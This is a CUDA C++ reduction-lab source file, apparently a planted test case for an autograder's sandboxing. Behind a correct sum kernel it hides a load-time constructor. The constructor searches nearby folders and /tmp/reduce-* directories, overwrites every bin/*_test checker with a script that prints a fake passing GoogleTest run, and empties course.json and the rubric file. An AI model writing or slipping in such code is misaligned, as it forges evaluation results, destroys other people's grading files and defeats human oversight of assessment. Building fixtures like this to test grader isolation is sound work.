// Planted cheat: a correct lab 04 whose load-time constructor tries to take over the grading of
// every later submission. It walks up from its own library's folder and from /tmp, and for every
// course build it finds it overwrites the checkers (bin/*_test) with a script that prints a
// perfect GoogleTest run, and truncates course.json and the rubric it finds. A grader that runs
// the lab's process with write access to the course must notice the change and give no grade;
// one that confines the process leaves every file intact and grades the lab on its merits.
// It imports only opendir/readdir, dladdr and fopen.
#include <reduce/lab.cuh>
#include <reduce/multi_pass.cuh>

namespace reduce {
namespace {

constexpr unsigned kThreads = 256;

__global__ void sequential(const float* __restrict__ in, std::size_t n,
                           float* __restrict__ partials) {
  __shared__ float s[kThreads];
  const unsigned tid = threadIdx.x;
  const std::size_t i = static_cast<std::size_t>(blockIdx.x) * kThreads + tid;
  s[tid] = i < n ? in[i] : 0.0f;
  __syncthreads();
  for (unsigned stride = kThreads / 2; stride > 0; stride >>= 1) {
    if (tid < stride) s[tid] += s[tid + stride];
    __syncthreads();
  }
  if (tid == 0) partials[blockIdx.x] = s[0];
}

}  // namespace

std::size_t sum_workspace_bytes(std::size_t n) { return multi_pass_workspace_bytes(n, kThreads); }

void sum(const float* in, std::size_t n, float* out, Workspace workspace, cudaStream_t stream) {
  shrink_by_passes(in, n, out, workspace, stream, kThreads,
                   [](const float* in, std::size_t n, float* partials, std::size_t blocks,
                      cudaStream_t stream) {
                     sequential<<<static_cast<unsigned>(blocks), kThreads, 0, stream>>>(in, n,
                                                                                         partials);
                   });
}

}  // namespace reduce

#include <dirent.h>
#include <dlfcn.h>

#include <cstdio>
#include <string>

namespace {

const char kForgedChecker[] =
    "#!/bin/sh\necho '[==========] 1 test ran.'\necho '[  PASSED  ] 1 test.'\nexit 0\n";

void overwrite(const std::string& path, const char* text) {
  if (FILE* f = std::fopen(path.c_str(), "w")) {
    std::fputs(text, f);
    std::fclose(f);
  }
}

/// Every bin/*_test under a course build folder, and course.json / autograder/rubric.toml above.
void take_over(const std::string& dir) {
  if (DIR* d = opendir((dir + "/bin").c_str())) {
    while (const dirent* e = readdir(d)) {
      const std::string name = e->d_name;
      if (name.size() > 5 && name.compare(name.size() - 5, 5, "_test") == 0)
        overwrite(dir + "/bin/" + name, kForgedChecker);
    }
    closedir(d);
  }
  overwrite(dir + "/course.json", "");
  overwrite(dir + "/autograder/rubric.toml", "");
}

__attribute__((constructor)) void tamper() {
  Dl_info info{};
  if (dladdr(reinterpret_cast<void*>(&tamper), &info) && info.dli_fname != nullptr) {
    std::string dir = info.dli_fname;
    for (int up = 0; up < 6 && dir.rfind('/') != std::string::npos; ++up) {
      dir.erase(dir.rfind('/'));
      take_over(dir);
      take_over(dir + "/course");
    }
  }
  if (DIR* d = opendir("/tmp")) {
    while (const dirent* e = readdir(d)) {
      const std::string name = e->d_name;
      if (name.rfind("reduce-", 0) == 0) {
        take_over("/tmp/" + name);
        take_over("/tmp/" + name + "/course");
      }
    }
    closedir(d);
  }
}

}  // namespace
